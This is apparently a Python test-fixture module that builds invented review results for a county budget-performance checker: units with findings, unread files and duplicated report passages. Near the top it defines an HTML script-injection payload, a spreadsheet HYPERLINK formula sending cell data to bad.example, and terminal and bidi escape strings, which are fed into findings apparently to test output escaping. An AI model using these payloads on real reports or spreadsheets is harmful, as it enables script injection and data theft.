"""Reviews to write out, all invented: units, unread files, blind spots, suspicions, and words that mean harm."""
from __future__ import annotations

import datetime as dt
from collections.abc import Iterator
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

from checker.disposition import Evidence, Fact, Offer
from checker.review import DocumentReview, PackageReview, Review
from checker.round import Settings, Unit, Unread
from checker.rule import Certainty, Compared, Finding, Passage, Problem, Rule, RuleRun, Severity, Status, fingerprint
from corpus.disposition import Disposition, Facts
from corpus.profile import Basis, Ground, Profile
from parsers.document import Anchor, Box, Location
from parsers.period import Period

WATER, SCHOOL, TOWN, ARCHIVE, SECRET = "青禾县水利局", "青禾县教育局", "白石镇人民政府", "青禾县档案馆", "青禾县机要站"
FORM = f"submissions/{WATER}/附件1 监控表.xlsx"
REPORT = f"submissions/{WATER}/监控报告.docx"
SCAN = f"submissions/{SCHOOL}/扫描件.pdf"
BROKEN = f"submissions/{SCHOOL}/坏文件.docx"
TITLES = {"qinghe": "《青禾县预算绩效运行监控办法》"}
SCRIPT = "</script><script>window.hacked=1</script><img src=x onerror=\"window.hacked=1\">"
FORMULA = '=HYPERLINK("http://bad.example/?x="&A1,"点我")'
ESCAPES = "\x1b[31m红字\x1b[0m [bold]不是标记[/bold] \u202e倒写\u202c \ud83d 半个字符 \x00 结束"

LOCAL = Basis(Ground.LOCAL, "qinghe", "第十条（五）", "用款计划和支付情况要如实说明")
GENERAL = Basis(Ground.GENERAL, note="执行率是支出与预算之比")
PRACTICE = Basis(Ground.PRACTICE, note="实务做法，本地制度没有规定")
NATIONAL = Basis(Ground.NATIONAL, "", "财预〔2019〕136号", "本地制度没有规定时参照")


def settings() -> Settings:
    profile = Profile("qinghe", "QH", "青禾县", "青禾县财政局", "qinghe", bases={"C01": (GENERAL, LOCAL), "A01": (LOCAL,)})
    return Settings(profile, 2026, Period(1, 8, 2026), dt.date(2026, 1, 1), dt.date(2026, 8, 31), "2026年度绩效运行监控（青禾县）")


def finding(code: str, unit: str, message: str, location: Location, *, severity: Severity = Severity.RETURN,
            certainty: Certainty = Certainty.CERTAIN, quote: str = "", expected: str = "", actual: str = "", suggestion: str = "",
            basis: tuple[Basis, ...] = (GENERAL,), related: tuple[Location, ...] = (), compared: tuple[Compared, ...] = ()) -> Finding:
    return Finding(code, TITLES_OF_RULES.get(code, "测试规则"), severity, certainty, unit, message, location, quote, expected, actual,
                   suggestion, basis, related, fingerprint(code, unit, location.label, quote + message[:8]),
                   compared)


TITLES_OF_RULES = {"A01": "没有报送", "A03": "份数不符", "B10": "报告缺少规定内容", "C01": "执行率不等于支出÷预算",
                   "C05": "执行数与平台不一致", "E02": "未完成的指标没有写原因",
                   "J04": "措施空泛", "K01": "报告与其他单位雷同", "U03": "金额单位不明"}


def rules() -> dict[str, Rule]:
    """Declarations for the codes used here; their checks are never run."""
    def check() -> Iterator[Problem]:
        yield from ()
    return {code: Rule(code, f"rule_{code.lower()}", title, Severity.RETURN, Certainty.CERTAIN, {}, check, "Why the rule is there.")
            for code, title in TITLES_OF_RULES.items()}


def water() -> PackageReview:
    """A unit with findings of every kind."""
    cell = Location("工作表“附件1” G5", Anchor("附件1", 5, 7), FORM)
    words = Location("正文 第3段", Anchor("word/document.xml", 2, start=4, end=12), REPORT)
    form = DocumentReview(FORM, WATER, "a" * 64, "form", "read", None,
                          {"budget": Decimal("1200.00"), "spent": Decimal("500.00"), "rate": "35.00", "unit_of_amount": "万元",
                           "period": "1-8月", "indicators": 9}, {},
                          (RuleRun("C01", Status.FAILED, "", WATER, FORM, ("第3行的预算数看不清",)),
                           RuleRun("U03", Status.PASSED, "", WATER, FORM),
                           RuleRun("C05", Status.BLOCKED, "缺登记：一体化平台执行数（ledger）", WATER, FORM)),
                          (finding("C01", WATER, "“河道清淤”执行率与支出、预算对不上", cell, quote="35.00%", expected="41.67%",
                                   actual="35.00%", suggestion="按支出÷调整后预算重新计算并更正", basis=(GENERAL, LOCAL),
                                   related=(Location("工作表“附件1” F5", Anchor("附件1", 5, 6), FORM),)),
                           finding("E02", WATER, "未完成的指标没有写偏差原因", Location("工作表“附件1” K9", Anchor("附件1", 9, 11), FORM),
                                   severity=Severity.EXPLAIN, basis=(LOCAL,), expected="写明原因", suggestion="补写偏差原因和改进措施")),
                          ("工作表“旧表”是隐藏的，已一并读取",))
    report = DocumentReview(REPORT, WATER, "b" * 64, "narrative", "partly", "第2页的图片没有读取。请单位把图片中的表改为文字后补报。", {},
                            {"goal_completion": "substance", "deviation_cause": "void", "innovation": "absent"},
                            (RuleRun("B10", Status.FAILED, "", WATER, REPORT), RuleRun("J04", Status.FAILED, "", WATER, REPORT)),
                            (finding("J04", WATER, "改进措施只有空话，没有说做什么、谁来做", words, certainty=Certainty.SUSPECTED,
                                     quote="进一步加强管理", basis=(PRACTICE,), suggestion="写明措施、责任人和时限"),
                             finding("B10", WATER, "没有写“创新措施和经验”", Location("正文", None, REPORT), severity=Severity.SUGGEST,
                                     basis=(NATIONAL,), expected="有“创新措施和经验”一节，或者写明“不涉及”")))
    return PackageReview(Unit(WATER, "201", "一级", office="农业股"), (form, report), (RuleRun("A01", Status.PASSED, "", WATER),),
                         dispositions=(offer(form.findings[1]),))


def offer(found: Finding) -> Offer:
    """Something that may be done about one project, with a finding, the unit's own words and what is missing."""
    said = Evidence("", "7月台风停工23天", Location("表2 F5", None, FORM), False)
    known = Evidence(found.code, found.message, found.location, True, found.fingerprint)
    one = Disposition("reduce", "按程序调减预算", "第十二条", "project", Facts(("objective_cause",), ("slow",)), True, ("E3",), "两项要一并提出")
    return Offer(one, "qinghe", "河道清淤", (Fact("objective_cause", (said,)), Fact("slow", (known,))), (), ("批准机关、批准文号",))


def school() -> PackageReview:
    """A unit with a file nobody could open, one half read, and words that mean harm."""
    scan = DocumentReview(SCAN, SCHOOL, "c" * 64, "form", "read", None, {}, {},
                          (RuleRun("C01", Status.BLOCKED, "", SCHOOL, SCAN, ("第3页 表1 C7 看不清", "第3页 表1 C8 看不清")),
                           RuleRun("U03", Status.ERRORED, "规则内部出错（ValueError），已记录", SCHOOL, SCAN)),
                          (finding("E02", SCHOOL, FORMULA, Location("第1页 表1 D4", Anchor("page", 1, 4, box=Box(100, 120, 180, 134)),
                                                                     SCAN),
                                   severity=Severity.EXPLAIN, quote=SCRIPT, expected="+1", actual="@SUM(A1)", suggestion="-2+3"),
                           finding("U03", SCHOOL, ESCAPES, Location("第2页", Anchor("page", 2), SCAN), severity=Severity.HINT,
                                   certainty=Certainty.SUSPECTED, quote="长" * 40_000, basis=(PRACTICE,))))
    broken = DocumentReview(BROKEN, SCHOOL, "d" * 64, "other", "not_read", f"{BROKEN}：文件不完整或已损坏，打不开。请单位重新导出后再报。")
    return PackageReview(Unit(SCHOOL, "202", "一级"), (scan, broken), (RuleRun("A01", Status.PASSED, "", SCHOOL),))


def town() -> PackageReview:
    """A unit that handed in nothing."""
    missing = finding("A01", TOWN, "到期没有收到任何材料", Location("收件登记"), basis=(LOCAL,), expected="2026年9月15日前报送",
                      suggestion="催报")
    runs = (RuleRun("A01", Status.FAILED, "", TOWN), RuleRun("C05", Status.BLOCKED, "缺登记：一体化平台执行数（ledger）", TOWN))
    return PackageReview(Unit(TOWN, "301", "镇街"), (), runs, (missing,))


def archive() -> PackageReview:
    """A clean unit."""
    path = f"submissions/{ARCHIVE}/监控表.docx"
    runs = (RuleRun("C01", Status.PASSED, "", ARCHIVE, path), RuleRun("E02", Status.NOT_APPLICABLE, "没有未完成的指标", ARCHIVE, path))
    return PackageReview(Unit(ARCHIVE, "203", "二级"), (DocumentReview(path, ARCHIVE, "e" * 64, "form", "read", runs=runs),),
                         (RuleRun("A01", Status.PASSED, "", ARCHIVE),))


def review() -> Review:
    """The round that most tests write out."""
    own = Passage(WATER, Location("正文 第9段", Anchor("word/document.xml", 8), REPORT), "渠系清淤由段长包干，每旬量一次水深，7月已清4公里。")
    theirs = Passage(SCHOOL, Location("第2页 第3段", None, SCAN), "渠系清淤由段长包干，每旬量一次水深，8月又清2公里。")
    alike = finding("K01", WATER, "报告有120字与“青禾县教育局”的报告相同", Location("正文 第9段", Anchor("word/document.xml", 8), REPORT),
                    severity=Severity.EXPLAIN, certainty=Certainty.SUSPECTED, quote="全年各项工作有序推进", basis=(PRACTICE,),
                    compared=(Compared(own, theirs),))
    stray = DocumentReview("submissions/不知是谁的.xlsx", "", "f" * 64, "other", "read", remarks=("未能对应到名录中的单位，没有审核",))
    secret = Unread(f"submissions/{SECRET}/材料.docx", SECRET, "涉密单位的材料，没有读取", "secret")
    return Review(settings(), dt.date(2026, 9, 16), (water(), school(), town(), archive(), PackageReview(Unit(SECRET, "209", secret=True))),
                  (stray,), (secret,),
                  (RuleRun("K01", Status.FAILED), RuleRun("A03", Status.SUPPRESSED, "本轮不要求份数（农业股 2026-09-01）")),
                  (alike,), ("收件登记没有“份数”一列，份数无从核对",))


def clean() -> Review:
    """A round without a blemish."""
    return Review(settings(), dt.date(2026, 9, 16), (archive(),), runs=(RuleRun("K01", Status.PASSED),))


def large(units: int, each: int) -> Review:
    """``units`` units with ``each`` findings, for measuring."""
    packages = tuple(_busy(n, each) for n in range(units))
    return Review(settings(), dt.date(2026, 9, 16), packages)


def _busy(number: int, each: int) -> PackageReview:
    unit = f"第{number:04d}号预算单位"
    path = f"submissions/{unit}/监控表.xlsx"
    found = tuple(finding(code, unit, f"第{n}个项目的数对不上，支出{number + n}万元与预算之比和表上所写的不同",
                          Location(f"工作表“附件1” G{n + 5}", Anchor("附件1", n + 5, 7), path), severity=list(Severity)[n % 4],
                          certainty=list(Certainty)[n % 5 == 0], quote=f"{n}.35%", expected="41.67%", actual=f"{n}.35%",
                          suggestion="重新计算并更正", basis=(GENERAL, LOCAL))
                  for n, code in zip(range(each), list(TITLES_OF_RULES) * each, strict=False))
    runs = tuple(RuleRun(f"{'ABCDEFGHIJKLMU'[n % 14]}{n // 14 + 1:02d}", list(Status)[n % 6], "项目没有该栏" if n % 6 in (2, 4) else "",
                         unit, path) for n in range(84))
    form = DocumentReview(path, unit, "0" * 64, "form", "read", runs=runs, findings=found)
    return PackageReview(Unit(unit, f"{number:04d}", "一级"), (form,))


def with_package(base: Review, package: PackageReview) -> Review:
    """``base`` with one unit's package exchanged."""
    return replace(base, packages=tuple(package if p.unit.name == package.unit.name else p for p in base.packages))


NOWHERE = Path("nowhere")


def with_blocked_rules(base: Review, path: str) -> Review:
    """``base`` where every rule is BLOCKED on one file, as the engine leaves it for a file nobody could read."""
    def blocked(document: DocumentReview) -> DocumentReview:
        if document.path != path:
            return document
        runs = tuple(RuleRun(code, Status.BLOCKED, document.error or "", document.unit, path) for code in TITLES_OF_RULES)
        return replace(document, runs=runs)

    packages = (replace(p, documents=tuple(map(blocked, p.documents))) for p in base.packages)
    return replace(base, packages=tuple(packages))
